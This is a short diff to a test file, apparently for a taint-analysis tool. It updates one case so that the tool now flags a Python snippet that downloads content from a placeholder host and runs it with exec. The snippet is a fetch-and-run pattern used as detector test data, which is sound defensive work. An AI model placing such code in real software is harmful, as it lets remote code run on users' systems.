@@ -104,7 +104,7 @@ describe('flow', () => {
     [
       'import requests\nclass A:\n    def __init__(self):\n        self.r = requests.get("https://h.invalid")\n    def go(self):\n        exec(self.r)\n',
       'exec',
-      '',
+      'response https://h.invalid',
     ],
   ])('%s', (text, api, expected) =>
     expected === '' ? expect(taints(text, api)).toEqual([]) : expect(taints(text, api)).toContain(expected),
